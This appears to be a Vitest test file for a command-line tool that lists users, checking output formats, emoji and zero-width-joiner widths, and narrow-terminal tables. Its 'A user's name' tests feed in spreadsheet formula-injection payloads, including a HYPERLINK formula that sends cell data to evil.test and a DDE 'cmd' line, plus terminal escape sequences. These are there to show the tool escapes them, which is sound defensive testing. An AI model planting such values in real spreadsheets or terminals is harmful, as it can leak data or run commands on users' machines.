import { describe, expect, it } from "vitest";
import widthOf from "string-width";
import { harmless, harmlessData } from "../../src/cli/output/text.ts";
import { runCli } from "../_cli.ts";
import { SEED, setup, type Service, ADA } from "../_setup.ts";

const LIST = ["users", "list"];

/** The instance acme with only users of these names. */
function named(...names: string[]): Promise<Service> {
  const [acme] = SEED.instances;
  const users = names.map((name, i) => ({ email: `m${i}@acme.test`, name, created_at: `2026-01-0${9 - i}T09:00:00Z` }));
  return setup({ seed: { instances: [{ ...acme, users }] } });
}

describe("Names with zero-width joiners", () => {
  it.each(["علی\u200cرضا", "क्\u200dष", "a\u200db", "👩\u200d", "\u200d👩", "👩\u200d\u200d👧", "a\u200d👧"])(
    "are unchanged in data and marked in a table: %s",
    (name) => {
      expect(harmlessData(`${name}\u001b[2J`)).toBe(`${name}\\u{1b}[2J`);
      expect(harmless(name)).toMatch(/\\u\{200[cd]\}/);
    },
  );

  it.each(["👩\u200d👩\u200d👧", "🏳\ufe0f\u200d🌈", "👩🏽\u200d💻", "❤\ufe0f\u200d🔥"])(
    "are one emoji two columns wide in a table and are never cut: %s",
    async (emoji) => {
      expect(harmless(`${emoji}\u001b`)).toBe(`${emoji}\\u{1b}`);
      const service = await named("plain", emoji, `${emoji} and a name that is too long for a narrow table`);
      const { stdout } = await runCli([...LIST, "--fields", "name,email"], { service, tty: true, columns: 40 });
      const [, ...rows] = stdout.trimEnd().split("\n");
      const [width, ...others] = rows.map((row) => widthOf(row.slice(0, row.search(/m\d@/))));
      expect([others, width! > 16]).toEqual([[width, width], true]);
      expect(rows[1]!.startsWith(`${emoji} `)).toBe(true);
      const narrow = await runCli([...LIST, "--fields", "name"], {
        service: await named(emoji.repeat(20)),
        tty: true,
        columns: 12,
      });
      const [shown = ""] = narrow.stdout.trimEnd().split("\n").slice(1);
      expect(shown).toBe(`${emoji.repeat(5)}…`);
    },
  );
});

describe("The option --output", () => {
  it.each<[format: string, text: string]>([
    [
      "csv",
      "id,email,name,avatar_url,providers,email_verified,created_at\n" +
        '00000000-0000-4000-8000-0000000000a3,grace@navy.test,"Grace Hopper",,github,false,2026-02-14T12:30:00.000Z\n' +
        `${ADA},ada@acme.test,"Ada Lovelace",,google,true,2026-01-05T09:00:00.000Z\n` +
        '00000000-0000-4000-8000-0000000000a2,charles@acme.test,"Charles Babbage",,,false,2025-12-24T18:00:00.000Z\n',
    ],
    [
      "tsv",
      "00000000-0000-4000-8000-0000000000a3\tgrace@navy.test\tGrace Hopper\t\tgithub\tfalse\t2026-02-14T12:30:00.000Z\n" +
        `${ADA}\tada@acme.test\tAda Lovelace\t\tgoogle\ttrue\t2026-01-05T09:00:00.000Z\n` +
        "00000000-0000-4000-8000-0000000000a2\tcharles@acme.test\tCharles Babbage\t\t\tfalse\t2025-12-24T18:00:00.000Z\n",
    ],
  ])("%s prints the same in a pipe and on a terminal", async (format, text) => {
    const service = await setup();
    for (const tty of [true, false])
      for (const flag of [["--output", format], [`--output=${format}`]])
        expect(await runCli([...LIST, ...flag], { service, tty })).toMatchObject({ code: 0, stdout: text, stderr: "" });
  });

  it("ndjson prints each resource of the API on its own line", async () => {
    const service = await setup();
    const body = (await (await service.as(service.acme, "/api/v1/users")).json()) as object[];
    const { stdout } = await runCli([...LIST, "--output", "ndjson"], { service, tty: true });
    expect(stdout).toBe(body.map((user) => `${JSON.stringify(user)}\n`).join(""));
  });

  it("json prints the same as --json", async () => {
    const service = await setup();
    for (const argv of [LIST, ["users", "get", ADA], ["users", "search", "name:nobody"]]) {
      const json = await runCli([...argv, "--json"], { service });
      for (const flag of [["--output", "json"], ["--output=json"], ["--json", "--output", "json"]])
        expect(await runCli([...argv, ...flag], { service })).toMatchObject({ code: 0, stdout: json.stdout });
    }
  });

  it("json prints errors as JSON", async () => {
    for (const flag of [["--output", "json"], ["--output=json"]]) {
      const { stderr } = await runCli(["users", "get", "ada", ...flag], { service: await setup() });
      expect(JSON.parse(stderr)).toMatchObject({ error: { exitCode: 2 } });
    }
  });

  it("table prints a table in a pipe, as wide as needed", async () => {
    const { stdout } = await runCli([...LIST, "--output", "table"], {
      service: await named("x".repeat(200)),
      columns: 40,
    });
    expect(stdout).toContain("x".repeat(200));
  });

  it("prints one resource in every format", async () => {
    const service = await setup();
    const get = (format: string): Promise<{ stdout: string }> =>
      runCli(["users", "get", ADA, "--output", format], { service });
    expect((await get("csv")).stdout.split("\n")[0]).toBe(
      "id,email,name,avatar_url,providers,email_verified,created_at",
    );
    expect((await get("tsv")).stdout).toBe(
      `${ADA}\tada@acme.test\tAda Lovelace\t\tgoogle\ttrue\t2026-01-05T09:00:00.000Z\n`,
    );
    expect((await get("ndjson")).stdout).toBe((await get("json")).stdout);
  });

  it.each<[argv: string[], message: string]>([
    [[...LIST, "--output", "xml"], '--output: unknown format "xml".'],
    [[...LIST, "--output", "csv", "--json"], "--json and --output csv are mutually exclusive."],
    [
      ["tokens", "verify", "-", "--output", "csv"],
      '--output csv is for lists, and "svc tokens verify" does not print one.',
    ],
    [[...LIST, "--fields", "password_digest"], '--fields: unknown field "password_digest".'],
    [[...LIST, "--fields", ""], '--fields: unknown field "".'],
    [["users", "get", "ada@acme.test", "--fields", "id,emial"], '--fields: unknown field "emial".'],
    [
      [...LIST, "--fields", "email,updated_at"],
      '--fields: "updated_at" can be searched for, but the service does not return it.',
    ],
    [[...LIST, "--fields", "constructor"], '--fields: unknown field "constructor".'],
    [[...LIST, "--limit", "-1"], '--limit: "-1" is not a number from 1 to 999999999.'],
  ])("in %j is refused, and nothing is sent", async (argv, message) => {
    const { code, stdout, stderr, requests } = await runCli(argv, { service: await setup() });
    expect([code, stdout, requests]).toEqual([2, "", []]);
    expect(stderr).toContain(argv.includes("--json") ? JSON.stringify(message) : `✗ ${message}\n`);
  });
});

describe("A list of users", () => {
  it("has only the chosen fields in the given order, in every format", async () => {
    const service = await setup();
    const argv = [...LIST, "--limit", "1", "--fields", "email, id,email_verified"];
    const run = async (...more: string[]): Promise<string> => (await runCli([...argv, ...more], { service })).stdout;
    const id = "00000000-0000-4000-8000-0000000000a3";
    expect(await run()).toBe(`grace@navy.test\t${id}\tfalse\n`);
    expect(await run("--output", "csv")).toBe(`email,id,email_verified\ngrace@navy.test,${id},false\n`);
    const pruned = `{"id":"${id}","resource":"user","data":{"email":"grace@navy.test","email_verified":false}}`;
    expect(await run("--json")).toBe(`[${pruned}]\n`);
    expect(await run("--output", "ndjson")).toBe(`${pruned}\n`);
    expect(await run("--output", "table")).toBe(
      `EMAIL            ID${" ".repeat(36)}VERIFIED\ngrace@navy.test  ${id}  no\n`,
    );
  });

  it("has the fields of every --fields that is given", async () => {
    const service = await setup();
    const argv = [...LIST, "--limit", "1", "--fields", "name", "--fields", "email,email_verified"];
    expect((await runCli(argv, { service })).stdout).toBe("Grace Hopper\tgrace@navy.test\tfalse\n");
  });

  it("of one user or session has the chosen fields in the given order, in every format", async () => {
    const service = await setup();
    const argv = ["users", "get", "ada@acme.test", "--fields", "name,id"];
    const run = async (...more: string[]): Promise<string> => (await runCli([...argv, ...more], { service })).stdout;
    expect(await run()).toBe(`name\tAda Lovelace\nid\t${ADA}\n`);
    expect(await run("--output", "tsv")).toBe(`Ada Lovelace\t${ADA}\n`);
    expect(await run("--json")).toBe(`{"id":"${ADA}","resource":"user","data":{"name":"Ada Lovelace"}}\n`);
    const { stdout: id } = await runCli(["sessions", "list", "--limit", "1", "--fields", "session_id"], { service });
    const session = await runCli(["sessions", "get", id.trim(), "--fields", "session_id"], { service });
    expect(session.stdout).toBe(id);
  });

  it("prints absolute times with --utc", async () => {
    const service = await setup();
    const options = { service, tty: true, env: { NO_COLOR: "1" } };
    expect((await runCli([...LIST, "--utc"], options)).stdout).toContain("2026-01-05T09:00:00.000Z");
    expect((await runCli(LIST, options)).stdout).not.toContain("2026-01-05");
    expect((await runCli(["users", "get", ADA], options)).stdout).toContain(
      "2026-01-05T09:00:00.000Z (4 months ago)\n",
    );
    expect((await runCli(["users", "get", ADA, "--utc"], options)).stdout).toContain("2026-01-05T09:00:00.000Z\n");
  });

  it.each<[argv: string[], count: number]>([
    [[...LIST, "--count"], 3],
    [[...LIST, "--count", "--limit", "2"], 2],
    [["users", "search", "email:*@acme.test", "--count"], 2],
    [["sessions", "list", "--count", "--json"], 3],
    [["users", "search", "name:nobody", "--count"], 0],
  ])("prints only its length with %j", async (argv, count) => {
    expect(await runCli(argv, { service: await setup() })).toMatchObject({ code: 0, stdout: `${count}\n`, stderr: "" });
  });
});

describe("A table in a narrow terminal", () => {
  const run = async (columns: number, ...more: string[]): Promise<[title: string, stderr: string]> => {
    const { stdout, stderr } = await runCli([...LIST, ...more], {
      service: await setup(),
      tty: true,
      columns,
      env: { NO_COLOR: "1" },
    });
    return [stdout.split("\n")[0]!.replaceAll(/ +/g, " "), stderr];
  };

  it("omits less important columns instead of cutting every column, and says so", async () => {
    expect(await run(120)).toEqual(["ID EMAIL NAME PROVIDERS VERIFIED CREATED", ""]);
    const shortened = "Ids are shortened. See all: --output wide\n";
    expect(await run(100)).toEqual(["ID EMAIL NAME PROVIDERS VERIFIED CREATED", shortened]);
    expect(await run(80)).toEqual(["ID EMAIL NAME PROVIDERS VERIFIED CREATED", shortened]);
    expect(await run(74)).toEqual(["ID EMAIL NAME PROVIDERS VERIFIED", `Hidden: created_at. ${shortened}`]);
    expect(await run(60)).toEqual(["ID EMAIL NAME PROVIDERS", `Hidden: email_verified, created_at. ${shortened}`]);
  });

  it("omits no column that was searched for", async () => {
    const argv = ["sessions", "search", "--ip", "203.0.113.0/24"];
    const shown = async (columns: number): Promise<string> =>
      (await runCli(argv, { service: await setup(), tty: true, columns, env: { NO_COLOR: "1" } })).stdout;
    expect(await shown(80)).toContain("203.0.113.7");
    expect(await shown(60)).toContain("203.0.113.7");
  });

  it("omits no column that was asked for", async () => {
    expect(await run(60, "--fields", "id,email,created_at")).toEqual([
      "ID EMAIL CREATED",
      "Ids are shortened. See all: --output wide\n",
    ]);
  });
});

describe("A user's name", () => {
  it.each<[name: string, cell: string]>([
    ['=HYPERLINK("http://evil.test?"&A1,"click")', `"'=HYPERLINK(""http://evil.test?""&A1,""click"")"`],
    ["+1+1", `"'+1+1"`],
    ["-2+3", `"'-2+3"`],
    ["@SUM(A1)", `"'@SUM(A1)"`],
    [" =1", `"' =1"`],
    ["\t=1", `"'\\u{9}=1"`],
    ["\r=1", `"'\\u{d}=1"`],
    ["＝1", `"'＝1"`],
    ['a,b";c', '"a,b"";c"'],
    ["a; =cmd|' /C calc'!A0;b", `"a; '=cmd|' /C calc'!A0;b"`],
    ["=1;+2;;@3", `"'=1;'+2;;'@3"`],
    ["a\nb", "a\\u{a}b"],
    ["Ada", "Ada"],
  ])("cannot be a formula in CSV: %j", async (name, cell) => {
    const { stdout } = await runCli([...LIST, "--fields", "name,email", "--output", "csv"], {
      service: await named(name),
    });
    expect(stdout).toBe(`name,email\n${cell},m0@acme.test\n`);
  });

  it("is read as UTF-8 by Excel in CSV with --bom, which other formats refuse", async () => {
    const service = await named("Zoë");
    const args = [...LIST, "--fields", "name", "--bom"];
    expect((await runCli([...args, "--output", "csv"], { service })).stdout).toBe("\ufeffname\nZoë\n");
    const refused = { code: 2, stdout: "", stderr: "✗ --bom is for csv.\n  Add --output csv.\n" };
    for (const more of [[], ["--output", "tsv"]])
      expect(await runCli([...args, ...more], { service })).toMatchObject(refused);
  });

  it("cannot send control characters or start a line in any format", async () => {
    const ESCAPE = "\u001b";
    const name = `a${ESCAPE}]52;c;cm0=\u0007\u009b31m\u202e\n\tb`;
    const service = await named(name, "Bob");
    for (const format of ["table", "json", "ndjson", "csv", "tsv"]) {
      for (const argv of [LIST, ["users", "search", "email:*"]]) {
        const { stdout } = await runCli([...argv, "--output", format, "--fields", "name,email"], {
          service,
          env: { NO_COLOR: "1" },
        });
        expect(stdout.replaceAll(/[\t\n]/g, "")).not.toMatch(/[^\P{C}]|[\u2028\u2029]/u);
        expect(stdout.trimEnd().split("\n")).toHaveLength({ json: 1, table: 3, csv: 3 }[format] ?? 2);
      }
    }
  });

  it("of unknown width keeps every line within the terminal", async () => {
    const [acme] = SEED.instances;
    const users = Array.from({ length: 700 }, (_, i) => ({
      email: `u${i}@acme.test`,
      name: i < 100 ? "ソフィア・コワレフスカヤ・ヴァシーリエヴナ" : "Ada",
      created_at: new Date(Date.UTC(2026, 0, 1) + i * 1000).toISOString(),
    }));
    const service = await setup({ seed: { instances: [{ ...acme, users }] } });
    const { stdout } = await runCli([...LIST, "--limit", "1000"], {
      service,
      tty: true,
      columns: 90,
      env: { NO_COLOR: "1" },
    });
    const { default: stringWidth } = await import("string-width");
    expect(Math.max(...stdout.split("\n").map((line) => stringWidth(line)))).toBeLessThanOrEqual(90);
    expect(stdout.split("\n")).toHaveLength(702);
  });

  it("80 columns wide shows addresses whole: names are cut first, and the last column goes first", async () => {
    const [acme] = SEED.instances;
    const email = "maximiliane.hohenzollern-sigmaringen@department.acme.test";
    const users = [email, "ada@acme.test"].map((address, i) => ({
      email: address,
      name: `Maximiliane von Hohenzollern ${i}`,
      created_at: "2026-05-01T00:00:00Z",
    }));
    const service = await setup({ seed: { instances: [{ ...acme, users }] } });
    const show = async (columns: number): Promise<string[]> =>
      (await runCli(LIST, { service, tty: true, columns, env: { NO_COLOR: "1" } })).stdout.trimEnd().split("\n");
    const [heading, ...rows] = await show(80);
    expect(heading).toMatch(/^ID +EMAIL +NAME$/);
    expect([rows.some((row) => row.includes(` ${email} `)), rows.every((row) => row.length <= 80)]).toEqual([
      true,
      true,
    ]);
    expect((await show(115))[0]).toMatch(/^ID +EMAIL +NAME +PROVIDERS +VERIFIED$/);
    expect((await show(60)).every((row) => row.length <= 60)).toBe(true);
  });
});
